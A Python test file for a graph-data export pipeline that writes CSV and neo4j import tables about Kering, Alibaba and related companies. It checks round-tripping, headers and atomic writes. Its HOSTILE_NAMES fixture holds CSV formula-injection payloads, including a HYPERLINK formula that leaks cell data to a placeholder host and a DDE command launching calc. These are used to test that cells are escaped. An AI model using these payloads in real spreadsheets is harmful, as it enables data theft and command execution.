"""CSV: the four tables and the neo4j-admin files, read back by Python's csv module and by pandas;
hostile names (quotes, line breaks, commas, formula characters) come back as they were."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import networkx as nx
import pandas as pd
import pytest
import yaml

from graph import build, load, to_networkx
from graph.model.records import Dataset
from graph.pipeline import FORMATS
from graph.views.tables import ARRAY_DELIMITER, CSV_FILES, NEO4J_FILES, escape, unescape


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_the_files_and_their_registry_entries(built: Path) -> None:
    assert FORMATS["csv"].paths == tuple(f"csv/{n}" for n in CSV_FILES)
    assert FORMATS["neo4j"].paths == tuple(f"csv/neo4j/{n}" for n in NEO4J_FILES)
    assert sorted(p.name for p in (built / "csv").iterdir()) == sorted([*CSV_FILES, "neo4j"])
    assert sorted(p.name for p in (built / "csv" / "neo4j").iterdir()) == sorted(NEO4J_FILES)
    for path in (built / "csv").rglob("*.csv"):
        data = path.read_bytes()
        assert not data.startswith(b"\xef\xbb\xbf") and data.endswith(b"\r\n")  # no BOM; CRLF rows
        data.decode("utf-8")


def test_csv_reads_back_every_node_edge_fact_and_quote(built: Path, dataset: Dataset, G: nx.MultiDiGraph) -> None:
    nodes = {r["id"]: r for r in _rows(built / "csv" / "nodes.csv")}
    assert set(nodes) == set(G.nodes)
    assert nodes["kering"]["label"] == "Kering" and nodes["kering"]["type"] == "company"
    assert nodes["kering"]["aliases"] == "Kaiyun Group; Kering S.A.; KERINGS S.A.; Kering"
    edges = {r["id"]: r for r in _rows(built / "csv" / "edges.csv")}
    assert set(edges) == {k for *_, k in G.edges(keys=True)}
    gucci = edges["gucci-member_of-iacc"]
    assert (gucci["source"], gucci["target"], gucci["balance"], gucci["end_latest"]) == (
        "gucci",
        "iacc",
        "1",
        "2016-05-08",
    )
    kolsun = [r for r in edges.values() if r["according_to"] == "barbara_kolsun"]
    assert kolsun and all(r["mode"] == "reported" and r["visibility"] == "private" for r in kolsun)
    assert edges["alibaba-member_of-iacc.voa"]["same_as"] == "alibaba-member_of-iacc"
    facts = _rows(built / "csv" / "facts.csv")
    assert len(facts) == sum(len(m) for f in dataset.facts.values() for m in f.roles.values())
    assert {(r["role"], r["participant"]) for r in facts if r["fact"] == "lawsuit_kering_2015_11"} == {
        ("plaintiff", "kering"),
        ("defendant", "alibaba"),
    }
    evidence = _rows(built / "csv" / "evidence.csv")
    records = [*dataset.entities.values(), *dataset.facts.values(), *dataset.relations.values()]
    assert len(evidence) == sum(len(r.evidence) for r in records)
    text = {s.id: s.text for s in dataset.sources.values()}
    for row in evidence:
        if row["start"]:  # the anchor: the quote's code points in its source
            assert text[row["source"]][int(row["start"]) : int(row["end"])] == unescape(row["quote"])


def test_pandas_reads_them_with_their_types(built: Path) -> None:
    edges = pd.read_csv(built / "csv" / "edges.csv", keep_default_na=False)
    assert edges["balance"].dtype.kind == "i" and set(edges["balance"]) == {1, -1, 0}
    assert set(edges["directed"]) == {True, False}
    nodes = pd.read_csv(built / "csv" / "nodes.csv", dtype=str, keep_default_na=False)
    assert len(nodes) == len(set(nodes["id"])) and "Kering" in set(nodes["label"])
    evidence = pd.read_csv(built / "csv" / "evidence.csv")
    assert evidence["n"].min() == 1 and evidence["start"].dtype.kind == "i"  # every curated quote is anchored


def test_two_renders_give_the_same_bytes(dataset: Dataset) -> None:
    from graph.pipeline import render

    first, second = (render(dataset, ["csv", "neo4j", "gexf"], shacl="never")[2] for _ in range(2))
    assert first == second and len(first) == len(CSV_FILES) + len(NEO4J_FILES) + 1


def test_neo4j_headers(built: Path) -> None:
    folder = built / "csv" / "neo4j"
    headers = {p.name: next(csv.reader(p.open(encoding="utf-8", newline=""))) for p in folder.iterdir()}
    assert headers["nodes.csv"][:2] == ["id:ID(Record)", ":LABEL"]
    assert {"aliases:string[]", "date_earliest:date", "planned:boolean", "count:long"} <= set(headers["nodes.csv"])
    assert headers["relationships.csv"][:3] == [":START_ID(Record)", ":END_ID(Record)", ":TYPE"]
    assert "balance:int" in headers["relationships.csv"]
    assert headers["evidence_of.csv"] == [":START_ID(Evidence)", ":END_ID(Record)", ":TYPE"]
    assert headers["quoted_in.csv"] == [":START_ID(Evidence)", ":END_ID(Source)", ":TYPE"]
    nodes = {r["id:ID(Record)"]: r for r in _rows(folder / "nodes.csv")}
    assert nodes["kering"][":LABEL"].split(ARRAY_DELIMITER) == ["Entity", "Company"]
    assert nodes["kering"]["aliases:string[]"].split(ARRAY_DELIMITER)[:2] == ["Kaiyun Group", "Kering S.A."]
    relationships = _rows(folder / "relationships.csv")
    ids = set(nodes)
    assert all(r[":START_ID(Record)"] in ids and r[":END_ID(Record)"] in ids for r in relationships)
    assert {"SUED", "PLAINTIFF", "MEMBER_OF"} <= {r[":TYPE"] for r in relationships}
    evidence = {r["id:ID(Evidence)"] for r in _rows(folder / "evidence.csv")}
    assert all(r[":START_ID(Evidence)"] in evidence for r in _rows(folder / "quoted_in.csv"))
    assert all(r[":END_ID(Record)"] in ids for r in _rows(folder / "evidence_of.csv"))


HOSTILE_NAMES = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'already quoted",
    'Evil "quoted", Inc.',
    "Line one\nline two",
]


@pytest.fixture
def hostile(make_data: Callable[..., Path], tmp_path: Path) -> tuple[Path, Dataset]:
    entities = [
        {"id": f"hostile_{i}", "type": "company", "name": n, "description": n} for i, n in enumerate(HOSTILE_NAMES)
    ]
    data = make_data(files={"hostile.yaml": yaml.safe_dump({"entities": entities}, allow_unicode=True)})
    out = tmp_path / "out"
    return out, build(data, out, formats=["csv", "neo4j"]).dataset


def test_hostile_cells_read_back_and_no_formula_starts_a_cell(hostile: tuple[Path, Dataset]) -> None:
    """Each text as the loader keeps it (it makes a line break in a name or a description a space)."""
    out, ds = hostile
    rows = _rows(out / "csv" / "nodes.csv")
    by_id = {r["id"]: r for r in rows}
    for i in range(len(HOSTILE_NAMES)):
        row, entity = by_id[f"hostile_{i}"], ds.entities[f"hostile_{i}"]
        assert unescape(row["label"]) == entity.name and unescape(row["description"]) == entity.fields["description"]
        assert row["label"] == escape(entity.name)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    frame = pd.read_csv(out / "csv" / "nodes.csv", dtype=str, keep_default_na=False).set_index("id")
    ids = [f"hostile_{i}" for i in range(len(HOSTILE_NAMES))]
    kept = [ds.entities[i].fields["description"] for i in ids]
    assert [unescape(v) for v in frame.loc[ids, "description"]] == kept and kept[:6] == HOSTILE_NAMES[:6]
    neo = {r["id:ID(Record)"]: r for r in _rows(out / "csv" / "neo4j" / "nodes.csv")}
    assert [neo[i]["description"] for i in ids] == kept  # as they are: neo4j evaluates nothing


def test_escape_is_reversible() -> None:
    for text in ["", "'", "''", "=1", "'=1", "plain", "-", "a=b", "\t", "\rx"]:
        assert unescape(escape(text)) == text
    assert escape("2016-05") == "2016-05" and escape("-1") == "'-1"


def test_csv_module_and_pandas_agree(built: Path) -> None:
    path = built / "csv" / "edges.csv"
    by_csv = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    by_pandas = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert by_csv[0] == list(by_pandas.columns) and len(by_csv) - 1 == len(by_pandas)


def test_other_data_builds_its_tables(make_data: Callable[..., Path]) -> None:
    ds = load(make_data())
    G = to_networkx(ds)
    from graph.views.tables import tables

    found = tables(G, ds)
    assert len(found["nodes.csv"][1]) == G.number_of_nodes() and len(found["edges.csv"][1]) == G.number_of_edges()


def _tree(out: Path) -> dict[str, bytes]:
    """Every file's bytes; the loader's file cache (written once the data are read: no output) by being there."""
    from graph.cachefile import FILE_CACHE

    files = {str(p.relative_to(out)): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()}
    return {k: b"a cache" if k == FILE_CACHE else v for k, v in files.items()}


def test_the_folder_is_written_with_the_build_or_not_at_all(
    tmp_path: Path, make_data: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A writer that breaks after some of the folder's files are staged leaves every old file as it was;
    a file of the user's in csv/ is kept; csv/ that is a file is refused."""
    from dataclasses import replace

    from graph import OutputError, pipeline

    out = tmp_path / "out"
    build(make_data(), out, formats=["csv", "neo4j"])  # the data in tmp_path / "data"
    (out / "csv" / "mine.txt").write_text("the user's", encoding="utf-8")
    before = _tree(out)

    def half_then_broken(ctx: object, open_file: Callable[[str], object]) -> None:
        with open_file("nodes.csv") as fh:  # type: ignore[attr-defined]
            fh.write(b"id\r\nhalf")
        raise RuntimeError("the writer broke")

    broken = replace(pipeline.FORMATS["neo4j"], write_files=half_then_broken)
    monkeypatch.setitem(pipeline.FORMATS, "neo4j", broken)
    data = out.parent / "data"
    (data / "more.yaml").write_text("entities:\n  - {id: prada, type: company, name: Prada}\n", encoding="utf-8")
    with pytest.raises(RuntimeError, match="the writer broke"):
        build(data, out, formats=["csv", "neo4j"])
    assert _tree(out) == before
    monkeypatch.undo()
    build(data, out, formats=["csv", "neo4j"])
    after = _tree(out)
    assert after["csv/mine.txt"] == b"the user's" and b"prada" in after["csv/nodes.csv"]
    assert b"prada" in after["csv/neo4j/nodes.csv"]
    blocked = tmp_path / "blocked"
    blocked.mkdir()
    (blocked / "csv").write_text("a file", encoding="utf-8")
    with pytest.raises(OutputError, match="is a file, not a directory"):
        build(data, blocked, formats=["turtle", "csv"])
    assert _tree(blocked) == {"csv": b"a file"}
